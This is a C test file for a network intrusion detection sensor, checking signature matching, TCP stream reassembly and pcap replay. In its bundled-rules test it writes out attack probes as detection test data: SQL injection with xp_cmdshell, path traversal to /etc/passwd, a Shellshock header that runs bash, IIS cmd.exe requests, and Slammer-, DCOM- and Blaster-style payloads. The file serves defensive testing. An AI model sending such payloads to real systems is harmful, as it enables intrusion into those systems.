	/* All 26 x 2 = 52 two-letter words starting in a..z, b..: the
	 * payload holds "aa ba ca ... za ab bb ... zb": 52 rules. */
	{
		char pl[256];

		for (o = pl, i = 0; i < 52; i++) {
			*o++ = (char)('a' + i % 26);
			*o++ = (char)('a' + i / 26);
			*o++ = ' ';
		}
		udp_pkt(&p, "1.1.1.1", 1, "2.2.2.2", 2, pl, (size_t)(o - pl));
		net_sig_packet(c, &p, NULL, 0, collect, &h);
	}
	/* The 52 rules whose words are there, in set order. */
	CHECK_INT(h.n, 52);
	for (i = 0; i < 52 && i < h.n; i++)
		CHECK_INT(h.sid[i], 1000 - i);
	net_sig_ctx_free(c);
	net_sigset_free(s);
}

/* ---------------------------------------------------------------------
 * The bundled rules.
 */
static struct net_sigset *
bundled(void)
{
	const char *src = getenv("MAMORI_SRC");
	struct net_sigset *s = NULL;
	char path[1024], err[512], *dir;

	if (src != NULL) {
		snprintf(path, sizeof(path), "%s/rules/network", src);
		setenv("MAMORI_NET_RULES", path, 1);
	}
	dir = net_sig_default_dir();
	CHECK(dir != NULL);
	if (dir == NULL)
		return NULL;
	if (net_sig_load(dir, NULL, &s, err, sizeof(err)) != 0)
		fprintf(stderr, "bundled rules: %s\n", err);
	free(dir);
	return s;
}

struct probe {
	uint8_t		 proto;
	uint16_t	 dport;
	int		 dir;		/* 0 client to server */
	const char	*payload;
	size_t		 len;		/* 0: strlen */
	uint32_t	 sid;		/* expected; 0: none */
};

TEST(bundled_rules)
{
	static char slammer[376], welchia[64], dcom[72], tftp1[32], tftp2[32];
	static char longssrp[80];
	static const char uidout[] = "uid=0(root) gid=0(root) groups=0(root)\n";
	struct probe pr[] = {
		{ NET_P_TCP, 80, 0, "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: "
		    "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
		    "https://nmap.org/book/nse.html)\r\n\r\n", 0, 9000001 },
		{ NET_P_TCP, 80, 0, "GET /nmaplowercheck1596348081 HTTP/1.1\r\n"
		    "Host: a\r\n\r\n", 0, 9000002 },
		{ NET_P_TCP, 80, 0, "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.00"
		    " (Nikto/2.1.6) (Evasions:None) (Test:000001)\r\n\r\n", 0,
		    9000003 },
		{ NET_P_TCP, 80, 0, "GET / HTTP/1.0\r\nUser-Agent: masscan/1.0 "
		    "(https://github.com/robertdavidgraham/masscan)\r\n"
		    "Accept: */*\r\n\r\n", 0, 9000004 },
		{ NET_P_TCP, 8080, 0, "GET /?id=1 HTTP/1.1\r\nUser-Agent: "
		    "sqlmap/1.5.2#stable (http://sqlmap.org)\r\n\r\n", 0,
		    9000005 },
		{ NET_P_TCP, 80, 0, "GET /p.php?id=1+UNION+ALL+SELECT+null,"
		    "version()-- HTTP/1.1\r\n\r\n", 0, 9000101 },
		{ NET_P_TCP, 80, 0, "GET /p.php?id=1%20union/**/select%20"
		    "1,2 HTTP/1.1\r\n\r\n", 0, 9000101 },
		{ NET_P_TCP, 80, 0, "POST /login HTTP/1.1\r\n\r\nuser=admin' "
		    "OR 1=1-- &pw=x", 0, 9000102 },
		{ NET_P_TCP, 80, 0, "GET /sqli/?id=%25%27+or+%270%27%3D%270"
		    "&Submit=Submit HTTP/1.1\r\n\r\n", 0, 9000103 },
		{ NET_P_TCP, 80, 0, "GET /?q=1+from+information_schema.tables "
		    "HTTP/1.1\r\n\r\n", 0, 9000104 },
		{ NET_P_TCP, 80, 0, "GET /?q=1;exec+master..xp_cmdshell+'dir' "
		    "HTTP/1.1\r\n\r\n", 0, 9000105 },
		{ NET_P_TCP, 80, 0, "GET /fi/?page=../../../../etc/hosts "
		    "HTTP/1.1\r\n\r\n", 0, 9000110 },
		{ NET_P_TCP, 80, 0, "GET /a/..\\..\\windows\\win.ini HTTP/1.1"
		    "\r\n\r\n", 0, 9000111 },
		{ NET_P_TCP, 80, 0, "GET /cgi-bin/%2e%2e/%2e%2e/bin/sh HTTP/1.1"
		    "\r\n\r\n", 0, 9000112 },
		{ NET_P_TCP, 80, 0, "GET /x/..%2fconfig HTTP/1.1\r\n\r\n", 0,
		    9000113 },
		{ NET_P_TCP, 80, 0, "GET /view?f=/etc/passwd HTTP/1.1\r\n\r\n",
		    0, 9000114 },
		{ NET_P_TCP, 80, 0, "GET /cgi-bin/status HTTP/1.1\r\n"
		    "User-Agent: () { :; }; /bin/bash -c 'id'\r\n\r\n", 0,
		    9000120 },
		{ NET_P_TCP, 80, 0, "GET /cgi-bin/t.cgi?x=%28%29%20%7B%20%3A%3B"
		    "%20%7D HTTP/1.1\r\n\r\n", 0, 9000121 },
		{ NET_P_TCP, 80, 0, "GET /default.ida?NNNNNNNNNNNNNNNNNNNNNNNNN"
		    "NNNNNNNNNNNNNNNNNNNN%u9090%u6858%ucbd3%u7801 HTTP/1.0\r\n",
		    0, 9000201 },
		{ NET_P_TCP, 80, 0, "GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXXX"
		    "XXXXXXXXX%u9090%u6858%ucbd3%u7801 HTTP/1.0\r\n", 0,
		    9000202 },
		{ NET_P_TCP, 80, 0, "GET /scripts/root.exe?/c+dir HTTP/1.0\r\n"
		    "\r\n", 0, 9000210 },
		{ NET_P_TCP, 80, 0, "GET /scripts/..%c0%af../winnt/system32/"
		    "cmd.exe?/c+dir HTTP/1.0\r\n\r\n", 0, 9000211 },
		{ NET_P_TCP, 80, 0, "GET /scripts/..%255c../winnt/system32/"
		    "cmd.exe?/c+dir HTTP/1.0\r\n\r\n", 0, 9000212 },
		{ NET_P_UDP, 69, 0, tftp1, 0, 9000214 },
		{ NET_P_UDP, 1434, 0, slammer, sizeof(slammer), 9000220 },
		{ NET_P_UDP, 1434, 0, longssrp, sizeof(longssrp), 9000221 },
		{ NET_P_TCP, 135, 0, dcom, sizeof(dcom), 9000230 },
		{ NET_P_UDP, 69, 0, tftp2, 0, 9000231 },
		{ NET_P_TCP, 4444, 0, "tftp -i 10.0.0.9 GET msblast.exe\r\n", 0,
		    9000232 },
		{ NET_P_ICMP, 0, 0, welchia, sizeof(welchia), 9000240 },
		{ NET_P_TCP, 5554, 0, "RETR 12345_up.exe\r\n", 0, 9000250 },
		{ NET_P_TCP, 4000, 1, uidout, 0, 9000301 },
		{ NET_P_TCP, 4000, 0, uidout, 0, 9000302 },
		{ NET_P_TCP, 4444, 1, "Microsoft Windows 2000 [Version "
		    "5.00.2195]\r\n(C) Copyright 1985-2000 Microsoft Corp.\r\n"
		    "\r\nC:\\WINNT\\system32>", 0, 9000303 },
		/* Benign: nothing. */
		{ NET_P_TCP, 80, 0, "GET /wiki/Union_(set_theory) HTTP/1.1\r\n"
		    "Host: en.wikipedia.org\r\nUser-Agent: Mozilla/5.0 (X11; "
		    "Linux x86_64) Firefox/115.0\r\n\r\n", 0, 0 },
		{ NET_P_TCP, 80, 0, "GET /search?q=rock+'n'+roll&x=1 HTTP/1.1"
		    "\r\n\r\n", 0, 0 },
		{ NET_P_TCP, 80, 0, "POST /upload HTTP/1.1\r\n\r\n"
		    "#include \"../../lib/x.h\"\nfunction () { x(); };\n", 0,
		    0 },
		{ NET_P_TCP, 80, 1, "HTTP/1.1 200 OK\r\n\r\n<a href=\"../../"
		    "etc/passwd\">' or 1=1</a> union select", 0, 0 },
		{ NET_P_UDP, 1434, 0, "\x04MSSQLSERVER", 12, 0 },
	};
	struct net_sigset *s = bundled();
	struct net_sig_ctx *c;
	size_t i;
	int j;

	CHECK(s != NULL);
	if (s == NULL)
		return;
	CHECK(net_sigset_count(s) >= 30);
	/* The crafted payloads. */
	slammer[0] = 4;
	memset(slammer + 1, 1, sizeof(slammer) - 1);
	memcpy(slammer + 100, "\x81\xf1\x03\x01\x04\x9b\x81\xf1\x01", 9);
	memcpy(slammer + 200, "hsockf", 6);
	memcpy(slammer + 220, "hsend", 5);
	longssrp[0] = 4;
	memset(longssrp + 1, 'A', sizeof(longssrp) - 1);
	memset(welchia, 0xaa, sizeof(welchia));
	memcpy(dcom, "\x05\x00\x0b\x03\x10\x00\x00\x00\x48\x00\x00\x00\x7f\x00"
	    "\x00\x00\xd0\x16\xd0\x16\x00\x00\x00\x00\x01\x00\x00\x00\x01\x00"
	    "\x01\x00\xa0\x01\x00\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00"
	    "\x00\x46\x00\x00\x00\x00\x04\x5d\x88\x8a\xeb\x1c\xc9\x11\x9f\xe8"
	    "\x08\x00\x2b\x10\x48\x60\x02\x00\x00\x00", 72);
	memcpy(tftp1, "\x00\x01" "Admin.dll\x00octet", 17);
	memcpy(tftp2, "\x00\x01" "msblast.exe\x00octet", 19);
	pr[23].len = 17;
	pr[27].len = 19;

	for (i = 0; i < sizeof(pr) / sizeof(pr[0]); i++) {
		struct net_flow f;
		struct net_pkt syn, p;
		struct hits h;
		size_t len = pr[i].len ? pr[i].len : strlen(pr[i].payload);
		const char *cl = "10.0.0.1", *sv = "10.0.0.2";

		if ((c = net_sig_ctx_new(s)) == NULL)
			break;
		memset(&h, 0, sizeof(h));
		flow_init(&f, pr[i].proto);
		if (pr[i].proto == NET_P_TCP) {
			/* A SYN first, so the stream starts at offset 0. */
			tcp_pkt(&syn, cl, 40000, sv, pr[i].dport, NET_TH_SYN,
			    99, 0, NULL, 0);
			net_sig_packet(c, &syn, &f, 0, collect, &h);
			tcp_pkt(&syn, sv, pr[i].dport, cl, 40000, NET_TH_SYN |
			    NET_TH_ACK, 499, 100, NULL, 0);
			net_sig_packet(c, &syn, &f, 1, collect, &h);
			if (pr[i].dir == 0)
				tcp_pkt(&p, cl, 40000, sv, pr[i].dport,
				    NET_TH_ACK | NET_TH_PUSH, 100, 500,
				    pr[i].payload, len);
			else
				tcp_pkt(&p, sv, pr[i].dport, cl, 40000,
				    NET_TH_ACK | NET_TH_PUSH, 500, 100,
				    pr[i].payload, len);
		} else if (pr[i].proto == NET_P_UDP)
			udp_pkt(&p, cl, 40000, sv, pr[i].dport, pr[i].payload,
			    len);
		else
			icmp_pkt(&p, cl, sv, 8, 0, pr[i].payload, len);
		net_sig_packet(c, &p, &f, pr[i].dir, collect, &h);
		if (pr[i].sid == 0) {
			if (h.n != 0)
				fprintf(stderr, "probe %zu: benign fired sid "
				    "%u\n", i, h.sid[0]);
			CHECK_INT(h.n, 0);
		} else {
			if (count_sid(&h, pr[i].sid) != 1) {
				fprintf(stderr, "probe %zu: sid %u did not "
				    "fire; got", i, pr[i].sid);
				for (j = 0; j < h.n; j++)
					fprintf(stderr, " %u", h.sid[j]);
				fprintf(stderr, "\n");
			}
			CHECK_INT(count_sid(&h, pr[i].sid), 1);
		}
		flow_release(&f);
		net_sig_ctx_free(c);
	}
	net_sigset_free(s);
}

/* ---------------------------------------------------------------------
 * The shared captures through libpcap, the decoder, the flow table and
 * the bundled rules.
 */
static void
flow_end_nop(void *arg, const struct net_flow *f, enum net_flow_end why)
{
	(void)arg;
	(void)f;
	(void)why;
}

static int
run_capture(struct net_sigset *s, const char *name, struct hits *h)
{
	const char *shared = getenv("MAMORI_SHARED");
	char path[1024], perr[PCAP_ERRBUF_SIZE];
	struct net_flow_table *t;
	struct net_flow_conf fc;
	struct net_sig_ctx *c;
	struct pcap_pkthdr *hdr;
	const u_char *data;
	pcap_t *pc;
	int rc;

	if (shared == NULL) {
		fprintf(stderr, "MAMORI_SHARED not set\n");
		return -1;
	}
	snprintf(path, sizeof(path), "%s/data/pcaps/%s", shared, name);
	if ((pc = pcap_open_offline_with_tstamp_precision(path,
	    PCAP_TSTAMP_PRECISION_NANO, perr)) == NULL) {
		fprintf(stderr, "%s: %s\n", path, perr);
		return -1;
	}
	net_flow_conf_init(&fc);
	t = net_flow_table_new(&fc, flow_end_nop, NULL);
	c = net_sig_ctx_new(s);
	memset(h, 0, sizeof(*h));
	while (t != NULL && c != NULL &&
	    (rc = pcap_next_ex(pc, &hdr, &data)) == 1) {
		struct net_pkt p;
		struct net_flow *f;
		int dir = 0;

		net_decode(&p, pcap_datalink(pc), data, hdr->caplen, hdr->len,
		    (int64_t)hdr->ts.tv_sec * 1000000000LL + hdr->ts.tv_usec);
		f = net_flow_update(t, &p, &dir, NULL);
		net_sig_packet(c, &p, f, dir, collect, h);
	}
	net_flow_table_free(t);
	net_sig_ctx_free(c);
	pcap_close(pc);
	return 0;
}

static void
report(const char *name, const struct hits *h)
{
	int i, j;

	printf("%s: %d alert(s)", name, h->n);
	for (i = 0; i < h->n && i < 256; i++) {
		for (j = 0; j < i; j++)
			if (h->sid[j] == h->sid[i])
				break;
		if (j == i)
			printf("%s sid %u x%d \"%s\"", i ? ";" : "", h->sid[i],
			    count_sid(h, h->sid[i]), h->d[i].text);
	}
	printf("\n");
}

TEST(captures)
{
	static const struct {
		const char *name;
		uint32_t want[4];	/* sids that must fire; {0}: none */
		int benign;
	} caps[] = {
		{ "esnet_nmap_80_w_service_detection.pcap",
		    { 9000001, 9000002 }, 0 },
		{ "ppa_http_dvwa_sqlinjection.pcapng",
		    { 9000101, 9000103 }, 0 },
		{ "ppa_http_dvwa_directorytraversal.pcapng",
		    { 9000110, 9000114 }, 0 },
		{ "zeek_wikipedia.pcap", { 0 }, 1 },
		{ "zeek_workshop_2011_browse.pcap", { 0 }, 1 },
		{ "ppa_http_espn.pcapng", { 0 }, 1 },
	};
	struct net_sigset *s = bundled();
	size_t i, k;

	if (s == NULL)
		return;
	for (i = 0; i < sizeof(caps) / sizeof(caps[0]); i++) {
		struct hits h;

		CHECK_INT(run_capture(s, caps[i].name, &h), 0);
		report(caps[i].name, &h);
		if (caps[i].benign)
			CHECK_INT(h.n, 0);
		for (k = 0; k < 4 && caps[i].want[k] != 0; k++) {
			if (count_sid(&h, caps[i].want[k]) < 1)
				fprintf(stderr, "%s: sid %u did not fire\n",
				    caps[i].name, caps[i].want[k]);
			CHECK(count_sid(&h, caps[i].want[k]) >= 1);
		}
	}
	net_sigset_free(s);
}

/* A flow's stream is made at its first payload, from what the handshake
 * and the acknowledgements before it taught (kept in the flow): a flow
 * without data costs no stream memory, and one with data matches as if
 * the stream had been there from the SYN on. */
TEST(stream_lazy)
{
	struct conv v;
	struct net_sig_stats st;
	struct net_pkt p;

	if (conv_open(&v, root_rule, NULL) != 0)
		return;
	v.cseq = 0xfffffff0u;
	v.sseq = 0x12345678u;
	conv_handshake(&v);
	CHECK_INT(conv_seg(&v, 0, NET_TH_ACK, 0, NULL, 0), 0);
	CHECK(v.f.ext[NET_FLOW_EXT_STREAM] == NULL);
	CHECK_INT(v.f.sig_started, 1);
	net_sig_ctx_stats(v.c, &st);
	CHECK_INT(st.stream_mem, 0);
	/* The client acknowledges 5 server bytes the capture lost, before
	 * any data: a gap, counted as before. */
	tcp_pkt(&p, "10.0.0.1", 40000, "10.0.0.2", 80, NET_TH_ACK,
	    v.cseq + 1, v.sseq + 1 + 5, NULL, 0);
	net_sig_packet(v.c, &p, &v.f, 0, collect, &v.h);
	net_sig_ctx_stats(v.c, &st);
	CHECK_INT(st.stream_gaps, 1);
	CHECK(v.f.ext[NET_FLOW_EXT_STREAM] == NULL);
	/* The lost bytes, late: before where the stream now starts, so
	 * they do not join what follows. */
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 0, "uid=0", 5), 0);
	CHECK(v.f.ext[NET_FLOW_EXT_STREAM] != NULL);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 5, "(root) gid=0(r", 14), 0);
	/* Split across two segments after the gap: one match. */
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 19, "uid=0(ro", 8), 0);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 27, "ot) gid=0(r", 11), 1);
	net_sig_ctx_stats(v.c, &st);
	CHECK(st.stream_mem > 0);
	CHECK_INT(st.stream_gaps, 1);
	conv_close(&v);

	/* A flood's SYN alone, and a reset: nothing allocated. */
	if (conv_open(&v, root_rule, NULL) != 0)
		return;
	tcp_pkt(&p, "10.0.0.1", 40000, "10.0.0.2", 80, NET_TH_SYN, 1, 0, NULL,
	    0);
	net_sig_packet(v.c, &p, &v.f, 0, collect, &v.h);
	tcp_pkt(&p, "10.0.0.2", 80, "10.0.0.1", 40000, NET_TH_RST | NET_TH_ACK,
	    0, 2, NULL, 0);
	net_sig_packet(v.c, &p, &v.f, 1, collect, &v.h);
	CHECK(v.f.ext[NET_FLOW_EXT_STREAM] == NULL);
	net_sig_ctx_stats(v.c, &st);
	CHECK_INT(st.stream_mem, 0);
	conv_close(&v);

	/* Picked up midway, pure ACKs first: nothing is tracked until the
	 * first payload (as a stream made then would not have been). */
	if (conv_open(&v, root_rule, NULL) != 0)
		return;
	tcp_pkt(&p, "10.0.0.1", 40000, "10.0.0.2", 80, NET_TH_ACK, 100, 900,
	    NULL, 0);
	net_sig_packet(v.c, &p, &v.f, 0, collect, &v.h);
	CHECK_INT(v.f.sig_started, 0);
	tcp_pkt(&p, "10.0.0.2", 80, "10.0.0.1", 40000, NET_TH_ACK, 1000, 100,
	    "uid=0(root) gid=0(", 18);
	net_sig_packet(v.c, &p, &v.f, 1, collect, &v.h);
	CHECK_INT(v.h.n, 1);
	conv_close(&v);
}

/* A packet database whose rules all name their destination ports is not
 * scanned for packets no rule's header can match. */
TEST(port_filter)
{
	struct net_sigset *s = load(
	    "alert udp any any -> any 69 (content:\"x\"; sid:1;)\n"
	    "alert udp any any <> any 1434 (content:\"y\"; sid:2;)\n"
	    "alert udp any any -> any [5000:5010,!5005] (content:\"w\"; "
	    "sid:4;)\n");
	struct net_sigset *any = load(
	    "alert udp any any -> any 69 (content:\"x\"; sid:1;)\n"
	    "alert udp any any -> any any (content:\"z\"; sid:3;)\n");
	struct net_sig_ctx *c;
	struct net_sig_stats st;
	struct net_pkt p;
	struct hits h;

	if (s == NULL || any == NULL || (c = net_sig_ctx_new(s)) == NULL)
		return;
	memset(&h, 0, sizeof(h));
	udp_pkt(&p, "1.1.1.1", 5000, "2.2.2.2", 161, "xyzw", 4);
	net_sig_packet(c, &p, NULL, 0, collect, &h);
	net_sig_ctx_stats(c, &st);
	CHECK_INT(h.n, 0);
	CHECK_INT(st.scans, 0);
	udp_pkt(&p, "1.1.1.1", 5000, "2.2.2.2", 69, "xyzw", 4);
	net_sig_packet(c, &p, NULL, 0, collect, &h);
	CHECK_INT(h.n, 1);
	CHECK_INT(count_sid(&h, 1), 1);
	/* <>: from the port as well as to it. */
	udp_pkt(&p, "2.2.2.2", 1434, "1.1.1.1", 5000, "y", 1);
	net_sig_packet(c, &p, NULL, 0, collect, &h);
	CHECK_INT(count_sid(&h, 2), 1);
	/* A range with a hole. */
	udp_pkt(&p, "1.1.1.1", 7, "2.2.2.2", 5010, "w", 1);
	net_sig_packet(c, &p, NULL, 0, collect, &h);
	udp_pkt(&p, "1.1.1.1", 7, "2.2.2.2", 5005, "w", 1);
	net_sig_packet(c, &p, NULL, 0, collect, &h);
	CHECK_INT(count_sid(&h, 4), 1);
	net_sig_ctx_stats(c, &st);
	CHECK_INT(st.scans, 3);
	net_sig_ctx_free(c);

	/* A rule for any port: every packet is scanned. */
	if ((c = net_sig_ctx_new(any)) == NULL)
		return;
	memset(&h, 0, sizeof(h));
	udp_pkt(&p, "1.1.1.1", 5000, "2.2.2.2", 161, "xz", 2);
	net_sig_packet(c, &p, NULL, 0, collect, &h);
	net_sig_ctx_stats(c, &st);
	CHECK_INT(h.n, 1);
	CHECK_INT(count_sid(&h, 3), 1);
	CHECK_INT(st.scans, 1);
	net_sig_ctx_free(c);
	net_sigset_free(s);
	net_sigset_free(any);
}

/* Runs a random conversation through rules (a window of 256 bytes),
 * with or without the literal prefilter: each direction a text of
 * random tokens cut into segments at random places (so literals straddle
 * segments), and now and then a segment the capture lost.  Fills sids[]
 * with a segment number and a sid per alert, in order.  Returns how
 * many numbers. */
static int
run_stream_corpus(const char *rules, uint32_t seed, uint32_t *sids, int max)
{
	static const char *const tokens[] = {
	    "LONGLITERAL1", "x", "ab", "cdef", "Q", "Z123", "t0", "t1", "t2",
	    "t3", "t4", "t5", "t6", "t7", "t8", "t9", "tA", "tB", "-", "--",
	    "....", "abab", "LONGLITER", "~", "~~" };
	struct net_sig_conf conf;
	struct conv v;
	char *text[2];
	size_t tlen[2] = { 0, 0 }, cap = 40000;
	uint32_t rng = seed, off[2] = { 0, 0 };
	int nseg, k, n = 0, got, d;

	text[0] = malloc(cap);
	text[1] = malloc(cap);
	if (text[0] == NULL || text[1] == NULL)
		return -1;
	for (d = 0; d < 2; d++)
		while (tlen[d] + 16 < cap) {
			const char *t = tokens[xorshift(&rng) %
			    (sizeof(tokens) / sizeof(tokens[0]))];

			memcpy(text[d] + tlen[d], t, strlen(t));
			tlen[d] += strlen(t);
		}
	net_sig_conf_init(&conf);
	conf.stream_window = 256;
	conf.stream_ooo = 512;
	if (conv_open(&v, rules, &conf) != 0)
		return -1;
	conv_handshake(&v);
	for (nseg = 0; nseg < 400; nseg++) {
		int dir = xorshift(&rng) % 4 == 0;
		size_t len = 1 + xorshift(&rng) % 300;

		if (off[dir] + len > tlen[dir])
			break;
		if (xorshift(&rng) % 40 == 0) {
			/* Lost: the receiver's ACK skips it. */
			struct net_pkt p;

			off[dir] += (uint32_t)len;
			if (dir == 0)
				tcp_pkt(&p, "10.0.0.2", 80, "10.0.0.1", 40000,
				    NET_TH_ACK, v.sseq + 1 + off[1],
				    v.cseq + 1 + off[0], NULL, 0);
			else
				tcp_pkt(&p, "10.0.0.1", 40000, "10.0.0.2", 80,
				    NET_TH_ACK, v.cseq + 1 + off[0],
				    v.sseq + 1 + off[1], NULL, 0);
			net_sig_packet(v.c, &p, &v.f, !dir, collect, &v.h);
			continue;
		}
		k = v.h.n;
		got = conv_seg(&v, dir, NET_TH_ACK | NET_TH_PUSH, off[dir],
		    text[dir] + off[dir], len);
		off[dir] += (uint32_t)len;
		for (; got > 0 && k < v.h.n && k < 256 && n + 1 < max; k++,
		    got--) {
			sids[n++] = (uint32_t)nseg;
			sids[n++] = v.h.sid[k];
		}
		if (v.h.n >= 200)
			v.h.n = 0;	/* keep room */
	}
	conv_close(&v);
	free(text[0]);
	free(text[1]);
	return n;
}

/* Stream window updates scan only their new bytes and carry what earlier
 * scans found (struct net_stream_carry): the alerts must be exactly
 * those of verifying every rule on every window (MAMORI_NO_PREFILTER),
 * with literals far before the rest of their rule, more literals found
 * than are carried, and lost segments. */
TEST(stream_prefilter_same_result)
{
	const char *rules =
	    "alert tcp any any -> any any (content:\"LONGLITERAL1\"; "
	    "content:\"x\"; distance:0; sid:1;)\n"
	    "alert tcp any any -> any any (content:\"ab\"; content:\"cdef\"; "
	    "distance:0; within:200; sid:2;)\n"
	    "alert tcp any any -> any any (content:\"Q\"; "
	    "pcre:\"/Z[0-9]{3}/R\"; sid:3;)\n"
	    "alert tcp any any -> any any (content:\"t0\"; content:\"t1\"; "
	    "distance:-100; within:120; sid:4;)\n"
	    "alert tcp any any -> any any (content:\"t2\"; sid:5;)\n"
	    "alert tcp any any -> any any (content:\"t3\"; content:!\"t4\"; "
	    "sid:6;)\n"
	    "alert tcp any any -> any any (content:\"t5\"; sid:7;)\n"
	    "alert tcp any any -> any any (content:\"t6\"; sid:8;)\n"
	    "alert tcp any any -> any any (content:\"t7\"; sid:9;)\n"
	    "alert tcp any any -> any any (content:\"t8\"; sid:10;)\n"
	    "alert tcp any any -> any any (content:\"t9\"; sid:11;)\n"
	    "alert tcp any any -> any any (content:\"tA\"; sid:12;)\n"
	    "alert tcp any any -> any any (content:\"tB\"; content:\"--\"; "
	    "sid:13;)\n"
	    "alert tcp any any -> any any (content:\"abab\"; "
	    "content:\"LONGLITER\"; sid:14;)\n";
	/* Few enough literals for all to be carried. */
	const char *few =
	    "alert tcp any any -> any any (content:\"LONGLITERAL1\"; "
	    "content:\"x\"; distance:0; sid:1;)\n"
	    "alert tcp any any -> any any (content:\"ab\"; content:\"cdef\"; "
	    "distance:0; within:200; sid:2;)\n"
	    "alert tcp any any -> any any (content:\"Q\"; "
	    "pcre:\"/Z[0-9]{3}/R\"; sid:3;)\n"
	    "alert tcp any any -> any any (content:\"LONGLITERAL1\"; "
	    "sid:15;)\n"
	    "alert tcp any any -> any any (content:\"abab\"; "
	    "content:\"LONGLITER\"; sid:14;)\n";
	const char *sets[2] = { rules, few };
	uint32_t a[2048], b[2048], seed;
	int na, nb, i, k, same = 1, total = 0;

	for (k = 0; k < 2; k++)
		for (seed = 1; seed <= 40; seed++) {
			unsetenv("MAMORI_NO_PREFILTER");
			na = run_stream_corpus(sets[k], seed * 7919, a, 2048);
			setenv("MAMORI_NO_PREFILTER", "1", 1);
			nb = run_stream_corpus(sets[k], seed * 7919, b, 2048);
			unsetenv("MAMORI_NO_PREFILTER");
			if (na != nb)
				same = 0;
			for (i = 0; i < na && i < nb; i++)
				if (a[i] != b[i])
					same = 0;
			total += na / 2;
		}
	CHECK(same);
	CHECK(total > 2000);
}

/*
 * A capture through a whole sensor three ways: on two threads (the
 * reader thread's compact records replayed to the detectors), on one,
 * and read by libpcap alone instead of the sensor's own reader of
 * classic pcap files.  Every detection, conn.log record and counter must
 * be the same, byte for byte.
 */
struct sensor_out {
	char		*buf;
	size_t		 len;
	FILE		*f;
};

static void
sensor_event(void *arg, const struct net_detection *d, const char *msg,
    size_t len)
{
	struct sensor_out *o = arg;

	fprintf(o->f, "%lld %.*s\n", (long long)d->ts_ns, (int)len, msg);
}

static int
sensor_run(const struct net_sigset *sigs, const char *path, int threads,
    int libpcap, struct sensor_out *o)
{
	struct net_sensor_conf *sc;
	struct net_sensor *sn;
	struct net_sensor_stats st;
	char err[512];
	int rc;

	memset(o, 0, sizeof(*o));
	if (net_sensor_conf_new(&sc) != 0 ||
	    (o->f = open_memstream(&o->buf, &o->len)) == NULL)
		return -1;
	setenv("MAMORI_NET_THREADS", threads == 1 ? "1" : "2", 1);
	if (libpcap)
		setenv("MAMORI_NET_LIBPCAP", "1", 1);
	else
		unsetenv("MAMORI_NET_LIBPCAP");
	sn = net_sensor_new(&sc->flows, sc->detect, sigs, sensor_event, o,
	    o->f);
	if (sn == NULL)
		return -1;
	err[0] = '\0';
	rc = net_sensor_read_file(sn, path, err, sizeof(err));
	net_sensor_finish(sn);
	net_sensor_stats(sn, &st);
	fprintf(o->f, "rc %d %s\nstats %llu %llu %llu %llu %llu %llu %llu "
	    "%llu %llu\n", rc, err, (unsigned long long)st.packets,
	    (unsigned long long)st.bytes, (unsigned long long)st.decoded_ip,
	    (unsigned long long)st.anomalous,
	    (unsigned long long)st.detections,
	    (unsigned long long)st.signatures,
	    (unsigned long long)st.conn_records,
	    (unsigned long long)st.flows.created,
	    (unsigned long long)st.flows.ended);
	net_sensor_free(sn);
	fclose(o->f);
	net_sensor_conf_free(sc);
	unsetenv("MAMORI_NET_THREADS");
	unsetenv("MAMORI_NET_LIBPCAP");
	return 0;
}

TEST(sensor_paths_agree)
{
	static const char *const caps[] = {
	    "stopddos_pkt.TCP.synflood.spoofed.pcap",
	    "esnet_nmap_80_w_service_detection.pcap",
	    "traceshare_ssh_hydra-1_tasks.pcap",
	    "pcaphunt_hs-icmpScan.pcap",
	    "pcaphunt_ps-udp.pcap",
	    "stopddos_amp.UDP.snmp.src161.pcapng",
	    "ppa_http_dvwa_sqlinjection.pcapng",
	    "zeek_wikipedia.pcap",
	};
	const char *shared = getenv("MAMORI_SHARED");
	struct net_sigset *s = bundled();
	struct sensor_out a, b, c;
	char path[1024];
	size_t i;

	if (s == NULL || shared == NULL)
		return;
	for (i = 0; i < sizeof(caps) / sizeof(caps[0]); i++) {
		snprintf(path, sizeof(path), "%s/data/pcaps/%s", shared,
		    caps[i]);
		if (sensor_run(s, path, 2, 0, &a) != 0 ||
		    sensor_run(s, path, 1, 0, &b) != 0 ||
		    sensor_run(s, path, 1, 1, &c) != 0) {
			CHECK(0);
			break;
		}
		CHECK(a.len > 100);
		CHECK(strstr(a.buf, "rc 0 \n") != NULL);
		if (a.len != b.len || memcmp(a.buf, b.buf, a.len) != 0)
			fprintf(stderr, "%s: two threads and one differ\n",
			    caps[i]);
		CHECK(a.len == b.len && memcmp(a.buf, b.buf, a.len) == 0);
		if (b.len != c.len || memcmp(b.buf, c.buf, b.len) != 0)
			fprintf(stderr, "%s: own reader and libpcap differ\n",
			    caps[i]);
		CHECK(b.len == c.len && memcmp(b.buf, c.buf, b.len) == 0);
		free(a.buf);
		free(b.buf);
		free(c.buf);
	}
	net_sigset_free(s);
}

int
main(void)
{
	RUN(parse_errors);
	RUN(parse_errors_var);
	RUN(parse_ok);
	RUN(parse_limits);
	RUN(match_header);
	RUN(match_content);
	RUN(match_pcre);
	RUN(match_flow_flags_sizes);
	RUN(match_detection);
	RUN(thresholds);
	RUN(threshold_table_bounded);
	RUN(stream_split);
	RUN(stream_reorder_overlap_wrap);
	RUN(stream_gap);
	RUN(stream_window);
	RUN(stream_reassembly_property);
	RUN(stream_modes);
	RUN(http_proto);
	RUN(prefilter_same_result);
	RUN(scan_counts);
	RUN(stream_lazy);
	RUN(port_filter);
	RUN(stream_prefilter_same_result);
	RUN(many_candidates);
	RUN(bundled_rules);
	RUN(captures);
	RUN(sensor_paths_agree);
	return test_summary();
}
